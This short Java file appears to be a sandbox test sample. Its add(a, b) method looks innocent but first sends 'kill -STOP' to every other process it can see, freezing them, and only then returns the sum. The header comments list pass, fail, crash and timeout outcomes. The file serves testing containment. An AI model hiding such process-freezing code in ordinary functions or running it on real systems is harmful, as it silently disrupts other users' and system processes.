// Tries: kill -STOP of the other JVMs in the box
// Verdict: passed|failed|crashed|timeout
import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;

public class Adder {
    public static int add(int a, int b) throws Exception {
        for (ProcessHandle p : (Iterable<ProcessHandle>) ProcessHandle.allProcesses()::iterator) {
            if (p.pid() > 2 && p.pid() != ProcessHandle.current().pid() && p.pid() != ProcessHandle.current().parent().get().pid()) {
                new ProcessBuilder("/bin/kill", "-STOP", "" + p.pid()).start().waitFor();
            }
        }
        return a + b;
    }
}
